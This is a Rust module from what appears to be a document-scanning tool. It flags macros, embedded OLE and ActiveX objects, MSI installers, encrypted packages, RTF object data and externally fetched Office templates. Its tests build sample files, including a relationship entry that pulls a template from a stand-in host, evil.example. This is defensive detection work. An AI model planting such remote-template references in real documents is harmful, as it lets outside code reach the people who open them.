//! Documents of Office: macros, templates from outside, files packed inside.

use std::io::{Cursor, Read};

use zip::ZipArchive;

use super::{Inspection, readable};
use crate::catalogue;

/// Bytes of a relationship part that are read.
const RELATIONS_BYTES: u64 = 256 << 10;
/// Entries of a document that are looked at.
const ENTRIES: usize = 5_000;

/// A document of today: a zip with `[Content_Types].xml`.
pub(super) fn ooxml(inspection: &mut Inspection<'_>, place: &str, archive: &mut ZipArchive<Cursor<&[u8]>>) {
    let names: Vec<String> = archive
        .file_names()
        .take(ENTRIES)
        .filter_map(|name| name.ok().map(std::borrow::Cow::into_owned))
        .collect();
    for name in names {
        let lower = name.to_ascii_lowercase();
        let last = lower.rsplit('/').next().unwrap_or_default();
        if last.starts_with("vbaproject") || lower.contains("xl/macrosheets/") {
            inspection.findings.add(catalogue::FILE_MACRO, &name, place);
        } else if lower.contains("/embeddings/") && last.starts_with("oleobject")
            || lower.contains("/activex/")
        {
            inspection.findings.add(catalogue::FILE_OBJECT, &name, place);
        } else if lower.ends_with(".rels") {
            relations(inspection, place, &name, archive);
        } else if lower.contains("/media/")
            && ["png", "jpg", "jpeg", "gif"].contains(&super::ending(&lower).as_str())
        {
            picture(inspection, place, &name, archive);
        }
    }
}

fn relations(
    inspection: &mut Inspection<'_>,
    place: &str,
    name: &str,
    archive: &mut ZipArchive<Cursor<&[u8]>>,
) {
    let mut xml = String::new();
    let read =
        archive.by_name(name).is_ok_and(|entry| entry.take(RELATIONS_BYTES).read_to_string(&mut xml).is_ok());
    inspection.budget.unpacked(xml.len());
    if !read {
        return;
    }
    for relation in xml.split("<Relationship ").skip(1) {
        let value = |key: &str| {
            let after = relation.split_once(&format!("{key}=\""))?.1;
            after.split_once('"').map(|(value, _)| crate::html::unescape(value))
        };
        let (kind, target) = (value("Type").unwrap_or_default(), value("Target").unwrap_or_default());
        let outside = value("TargetMode").is_some_and(|mode| mode.eq_ignore_ascii_case("external"));
        let fetched =
            ["attachedTemplate", "frame", "oleObject", "subDocument"].iter().any(|end| kind.ends_with(end));
        if outside && fetched && target.contains("://") {
            inspection.findings.add(catalogue::FILE_TEMPLATE, &target, place);
        } else if outside && kind.ends_with("hyperlink") {
            inspection.links.push(crate::links::Link { target, text: None, place: place.to_owned() });
        }
    }
}

fn picture(
    inspection: &mut Inspection<'_>,
    place: &str,
    name: &str,
    archive: &mut ZipArchive<Cursor<&[u8]>>,
) {
    let most = readable(inspection.budget);
    let mut bytes = Vec::new();
    if archive.by_name(name).is_ok_and(|entry| entry.take(most).read_to_end(&mut bytes).is_ok()) {
        inspection.budget.unpacked(bytes.len());
        super::picture::read(inspection, place, &bytes);
    }
}

/// A document, message or installer of the older kind.
pub(super) fn ole(inspection: &mut Inspection<'_>, place: &str, bytes: &[u8]) {
    let Ok(file) = cfb::CompoundFile::open(Cursor::new(bytes)) else {
        inspection.findings.blinded(
            "document",
            "壊れた文書があり、中身を確認していません。",
            "A broken document could not be opened.",
        );
        return;
    };
    // An installer shows itself by the class of its root (MS-OLEPS).
    if file.root_entry().clsid().to_string().to_ascii_lowercase().starts_with("000c1084") {
        inspection.findings.add(catalogue::FILE_PROGRAM, "msi", place);
    }
    for entry in file.walk().take(ENTRIES) {
        match entry.name() {
            "VBA" | "_VBA_PROJECT_CUR" | "Macros" => {
                inspection.findings.add(catalogue::FILE_MACRO, entry.name(), place);
            }
            "EncryptedPackage" => inspection.locked(place),
            "\u{1}Ole10Native" => inspection.findings.add(catalogue::FILE_OBJECT, "Ole10Native", place),
            _ => {}
        }
    }
}

/// Rich text with an object inside runs it through old programs.
pub(super) fn rtf(inspection: &mut Inspection<'_>, place: &str, bytes: &[u8]) {
    if bytes.windows(8).any(|w| w.eq_ignore_ascii_case(b"\\objdata") || w.eq_ignore_ascii_case(b"\\objupda"))
    {
        inspection.findings.add(catalogue::FILE_OBJECT, "objdata", place);
    }
}

#[cfg(test)]
mod tests {
    use super::super::tests::ids;
    use std::io::{Cursor, Write};

    #[test]
    fn macros_in_old_documents_are_seen() {
        let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
        file.create_storage("/Macros").unwrap();
        file.create_stream("/Macros/dir").unwrap().write_all(b"x").unwrap();
        let bytes = file.into_inner().into_inner();
        assert_eq!(ids("a.doc", &bytes), ["file.macro"]);
    }

    #[test]
    fn templates_from_outside_are_seen_and_links_are_not_signals() {
        let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
        for (name, text) in [
            ("[Content_Types].xml", "<Types/>"),
            (
                "word/_rels/settings.xml.rels",
                r#"<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>"#,
            ),
        ] {
            writer.start_file(name, zip::write::SimpleFileOptions::default()).unwrap();
            writer.write_all(text.as_bytes()).unwrap();
        }
        assert_eq!(ids("a.docx", &writer.finish().unwrap().into_inner()), ["file.external_template"]);
    }

    #[test]
    fn rich_text_with_an_object_is_seen() {
        assert_eq!(ids("a.doc", b"{\\rtf1{\\object\\objdata 0105}}"), ["file.embedded_object"]);
    }
}
